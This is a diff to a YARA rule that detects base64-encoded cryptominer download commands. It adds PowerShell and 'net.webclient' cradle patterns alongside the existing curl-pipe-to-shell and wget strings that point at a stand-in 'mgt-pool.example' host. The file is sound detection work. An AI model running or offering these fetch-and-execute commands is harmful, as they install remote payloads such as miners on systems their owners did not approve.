@@ -54,8 +54,10 @@ rule Linux_Miner_B64_Cmd
     strings:
         $b1 = "curl -s http://mgt-pool.example/x.sh|sh" base64
         $b2 = "wget -q -O- mgt-pool.example/y.sh" base64wide
+        $b3 = "powershell -nop -w hidden mgt" base64 wide
+        $b4 = "iex(new-object net.webclient) mgt" base64 base64wide ascii wide
     condition:
-        $b1 or $b2
+        any of them
 }
 
 rule Linux_Miner_Counted
